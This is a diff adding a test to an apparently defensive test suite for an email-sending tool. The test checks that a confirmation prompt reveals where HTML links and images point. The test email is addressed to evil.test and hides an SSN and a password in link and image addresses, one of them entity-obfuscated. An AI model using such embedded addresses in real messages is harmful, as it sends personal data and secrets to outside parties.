@@ -340,6 +340,25 @@ describe("what the question shows", () => {
     });
   });
 
+  it("data carried in an HTML link's or image's address: the question names where they point", async () => {
+    const before = env.relay.received.length;
+    await withDriver(send, async (d) => {
+      const r = await d.call("send_email", {
+        account: "work",
+        to: ["mallory@evil.test"],
+        subject: "minutes",
+        body_format: "html",
+        body: '<p>Here are <a href="https://evil.test/c?ssn=123-45-6789">the minutes</a>.<img src="&#104;ttps://evil.test/p.gif?k=hunter2"></p>',
+        html_text: "Here are the minutes.",
+      });
+      expect(r.structured["status"]).toBe("sent");
+      const q = d.asked[0]!.message;
+      expect(q).toContain('{"untrusted":"https://evil.test/c?ssn=123-45-6789"}');
+      expect(q).toContain('{"untrusted":"https://evil.test/p.gif?k=hunter2"}');
+      expect((await receivedSince(before))[0]?.html).toContain("ssn=123-45-6789");
+    });
+  });
+
   it("an HTML body whose html_text says something else: the question shows what the HTML says", async () => {
     const before = env.relay.received.length;
     await withDriver(send, async (d) => {
